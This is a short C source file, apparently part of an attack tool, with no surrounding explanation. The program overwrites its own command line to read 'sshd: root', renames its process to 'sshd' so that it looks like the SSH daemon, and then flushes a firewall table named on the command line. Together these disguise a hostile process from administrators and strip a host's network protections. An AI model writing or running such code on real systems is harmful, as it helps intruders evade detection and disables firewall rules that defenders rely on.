// rewriter TABLE PADDING…: calls itself sshd (comm), writes another command line over its argv, then empties the table.
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include "nf.h"

int main(int argc, char **argv) {
    if (argc < 3)
        return 64;
    char *table = strdup(argv[1]);
    char *end = argv[argc - 1] + strlen(argv[argc - 1]);
    memset(argv[0], 0, (size_t)(end - argv[0]));
    snprintf(argv[0], (size_t)(end - argv[0]), "sshd: root");
    prctl(PR_SET_NAME, "sshd");
    return nf_flush_table(table);
}
